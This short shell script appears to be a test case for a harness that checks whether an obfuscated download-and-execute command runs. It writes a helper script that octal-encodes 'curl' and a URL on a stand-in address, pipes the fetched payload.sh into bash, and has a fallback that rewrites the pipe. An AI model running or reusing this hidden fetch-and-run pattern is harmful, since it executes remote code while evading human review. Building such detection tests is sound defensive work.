#!/bin/sh
. /opt/case/case.sh

cat >/tmp/o.sh <<'END'
a=$'\143\165\162\154'; b=$'\150\164\164\160\72//203.0.113.10/\160\141\171\154\157\141\144.sh'; c=${SHELL:-/bin/bash}; d=${c##*/}; ${a} -s "${b}" | ${d:0:2}sh
END
bash /tmp/o.sh 2>/dev/null || bash -c "$(sed 's/| .*$/| $(printf s)h/' /tmp/o.sh)"
test -e /tmp/reached
took_place
